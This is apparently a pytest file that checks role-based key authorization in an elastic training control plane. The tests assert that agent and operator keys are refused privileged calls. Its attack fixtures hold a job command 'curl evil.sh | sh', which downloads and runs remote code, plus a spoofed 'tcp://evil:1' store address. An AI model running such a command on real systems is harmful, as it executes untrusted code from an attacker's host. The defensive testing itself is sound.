"""One identity per role (bus/roles.py), against the real services and agent, with keys from `elasticctl keys generate`.

The innocent first: a job submitted by an operator trains on an agent, every call between services, agents and the
operator allowed. Then each attack, done for real with a key a role really holds, and each checked to change nothing:
an agent's key (any training code on a host can read it) publishes a `round` event, submits a job, configures
discovery, starts a round, drains another host; an operator's key publishes, registers a host, reports a worker's
exit. Each gets `forbidden`, the service logs the role and the handler, and the job, the events and the hosts stay as
they were. A keys directory made before roles still works, every key for every handler, and the services say so."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from elastic_control_plane.bus.client import Client, ServiceError
from elastic_control_plane.bus.roles import AGENT, OPERATOR, SERVICE
from elastic_control_plane.bus.sockets import Security
from testing.harness import REPO, Cluster, wait_for

ROUND = {"hosts": [["evil", 1]], "job": 1, "command": ["sh", "-c", "curl evil.sh | sh"]}
ATTACKS = {
    AGENT: [
        ("notifier", "publish", {"type": "round", "data": ROUND}),
        ("registry", "submit", {"spec": {"command": ["sh", "-c", "curl evil.sh | sh"], "min_np": 1}}),
        ("discovery", "configure", {"min_np": 1}),
        ("rendezvous", "new_round", {"hosts": [["evil", 1]], "min_np": 1, "max_np": None, "hosts_timestamp": 9.0}),
        ("discovery", "undrain", {"host": "host-1"}),
        ("discovery", "uncordon", {"host": "host-1"}),
    ],
    OPERATOR: [
        ("notifier", "publish", {"type": "round", "data": ROUND}),
        ("discovery", "register", {"host": "evil", "slots": 8, "incarnation": "x"}),
        ("registry", "worker_exited", {"host": "host-1", "local_rank": 0, "pid": 1, "exit_code": 1}),
    ],
}


@pytest.fixture
def keys(tmp_path: Path) -> Path:
    directory = tmp_path / "keys"
    result = subprocess.run(
        [sys.executable, "-m", "elastic_control_plane.elasticctl.main", "keys", "generate", str(directory)],
        cwd=REPO,
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stderr
    return directory


def _as(cluster: Cluster, keys: Path, role: str, service: str) -> Client:
    return Client(getattr(cluster.endpoints, service), f"{role}-caller", security=Security(keys, role=role), timeout=2)


def _world(cluster: Cluster) -> tuple[Any, ...]:
    """What an attack must not change: the job, the events published, the hosts."""
    job = cluster.call("registry", "job")
    events = cluster.call("notifier", "since", {"seq": 0})
    hosts = cluster.call("discovery", "hosts")
    return (
        job.get("job"),
        job.get("state"),
        job.get("round"),
        len(events.get("events", [])),
        sorted(map(str, hosts["available"])),
    )


def test_each_role_calls_what_it_must_and_nothing_else(tmp_path: Path, keys: Path) -> None:
    cluster = Cluster(tmp_path, {"ELASTIC_KEYS": str(keys)})
    try:
        cluster.start_services()
        cluster.start_agent("host-1", 1)
        script = "import libworker as e, time; e.init(); e.barrier(); time.sleep(30)"
        job = cluster.submit("--min-np", "1", "--", sys.executable, "-c", script)
        wait_for(lambda: cluster.call("registry", "job").get("state") == "running", 60, "the job to run")
        before = _world(cluster)
        for role, attacks in ATTACKS.items():
            for service, msg_type, body in attacks:
                client = _as(cluster, keys, role, service)
                try:
                    with pytest.raises(ServiceError) as refused:
                        client.request(msg_type, body)
                finally:
                    client.close()
                assert refused.value.code == "forbidden", (role, msg_type, refused.value.message)
                assert f"not to {role}" in refused.value.message
                assert any(
                    '"forbidden"' in line and f'"handler": "{msg_type}"' in line and f'"role": "{role}"' in line
                    for line in cluster.output(service).splitlines()
                ), f"{service} logs the role and the handler"
        assert _world(cluster) == before, "an attack changed the job, its events or its hosts"
        service_key = _as(cluster, keys, SERVICE, "discovery")
        try:
            assert service_key.request("hosts").body["available"], "a service's key reads what services read"
        finally:
            service_key.close()
        cluster.call("registry", "cancel", {"reason": "the test ends"})
        assert cluster.wait_job_end(job, 60) != 0
    finally:
        cluster.close()


def test_keys_made_before_roles_still_work_for_every_handler_and_the_services_say_so(tmp_path: Path) -> None:
    from elastic_control_plane.bus.roles import AUTHORIZED_DIR
    from elastic_control_plane.bus.sockets import generate_keys

    keys = tmp_path / "old-keys"
    generate_keys(keys)
    for name in ("agent", "service"):  # what the first release wrote: the server's keypair and one client's
        for path in (keys / f"{name}.key", keys / f"{name}.key_secret", keys / AUTHORIZED_DIR / f"{name}.key"):
            path.unlink()
    cluster = Cluster(tmp_path, {"ELASTIC_KEYS": str(keys)})
    try:
        cluster.start_services()
        cluster.start_agent("host-1", 1)
        job = cluster.submit("--min-np", "1", "--", sys.executable, "-c", "import libworker as e; e.init()")
        assert cluster.wait_job_end(job, 60) == 0, cluster.output("elasticctl-run")
        assert "keys_without_roles" in cluster.output("registry")
    finally:
        cluster.close()


HOST_ATTACKS = [  # host-1's key, speaking for host-2
    ("discovery", "register", {"host": "host-2", "slots": 8, "incarnation": "x"}),
    ("discovery", "heartbeat", {"host": "host-2", "incarnation": "x"}),
    ("discovery", "drain", {"host": "host-2"}),
    ("registry", "worker_exited", {"host": "host-2", "local_rank": 0, "pid": 1, "exit_code": 1}),
    ("rendezvous", "kv_set", {"host": "host-2", "key": "round/1/store", "value": "tcp://evil:1"}),
]


def test_a_hosts_own_agent_key_speaks_for_that_host_only(tmp_path: Path) -> None:
    """Keys made with --agent-host: each agent uses its host's own key and a job trains on both hosts; host-1's key
    naming host-2 (register, heartbeat, drain, an exit report, a round's store address) gets `forbidden`, logged
    with both hosts, and nothing changes; an agent whose host has no key stops at once with one line."""
    keys = tmp_path / "keys"
    result = subprocess.run(
        [sys.executable, "-m", "elastic_control_plane.elasticctl.main", "keys", "generate", str(keys)]
        + ["--agent-host", "host-1", "--agent-host", "host-2"],
        cwd=REPO,
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stderr
    assert not (keys / "agent.key_secret").exists(), "no key all agents share"
    cluster = Cluster(tmp_path, {"ELASTIC_KEYS": str(keys)})
    try:
        cluster.start_services()
        cluster.start_agent("host-1", 1)
        cluster.start_agent("host-2", 1)
        script = "import libworker as e, time; e.init(); e.barrier(); time.sleep(30)"
        job = cluster.submit("--min-np", "2", "--", sys.executable, "-c", script)
        running = lambda: (cluster.job().get("state"), cluster.job().get("size")) == ("running", 2)  # noqa: E731
        wait_for(running, 60, "the job on both hosts")
        before = _world(cluster)
        for service, msg_type, body in HOST_ATTACKS:
            security = Security(keys, role=AGENT, host="host-1")
            client = Client(getattr(cluster.endpoints, service), "host-1-agent", security=security, timeout=2)
            try:
                with pytest.raises(ServiceError) as refused:
                    client.request(msg_type, body)
            finally:
                client.close()
            assert refused.value.code == "forbidden", (msg_type, refused.value.message)
            assert "key of host 'host-1' speaks only for that host, not for 'host-2'" in refused.value.message
            assert any(
                '"forbidden"' in line and f'"handler": "{msg_type}"' in line and '"named_host": "host-2"' in line
                for line in cluster.output(service).splitlines()
            ), f"{service} logs the handler and both hosts"
        assert _world(cluster) == before, "an attack changed the job, its events or its hosts"
        stranger = subprocess.run(
            [sys.executable, "-m", "elastic_control_plane.agent.main", "--host", "host-3", "--slots", "1"],
            env=cluster.env,
            cwd=REPO,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert stranger.returncode == 2
        assert stranger.stderr.strip().endswith("--agent-host host-3"), stranger.stderr
        cluster.call("registry", "cancel", {"reason": "the test ends"})
        assert cluster.wait_job_end(job, 60) != 0
    finally:
        cluster.close()
